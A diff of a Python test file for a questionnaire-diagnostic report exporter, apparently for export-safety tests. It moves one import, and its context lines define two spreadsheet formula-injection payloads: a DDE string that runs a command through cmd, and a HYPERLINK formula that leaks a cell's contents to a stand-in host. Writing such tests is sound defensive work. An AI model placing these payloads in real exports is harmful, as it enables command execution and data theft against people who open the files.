@@ -14,12 +14,13 @@ from typing import Any
 
 from diagnostic.core.answers import Answer, parse_answers
 from diagnostic.core.conditions import applicability
-from diagnostic.core.loading import LoadedQuestionnaire, find_questionnaire
+from diagnostic.core.loading import LoadedQuestionnaire
 from diagnostic.core.profile import Profile
 from diagnostic.core.schema import MaturityQuestion, MultipleQuestion, NumberQuestion, SingleQuestion, YesNoQuestion
 from diagnostic.core.scoring import Result, score
 from diagnostic.core.values import DONT_KNOW, NA
 from diagnostic.exports.report_data import ActionRow, CompanyInfo, ReportData
+from diagnostic.questionnaire_files import find_questionnaire
 
 COMPANY_NAME = "=cmd|' /C calc'!A0"
 HYPERLINK_COMMENT = '=HYPERLINK("http://exemple.invalid/?leak="&A1;"Cliquez ici")'
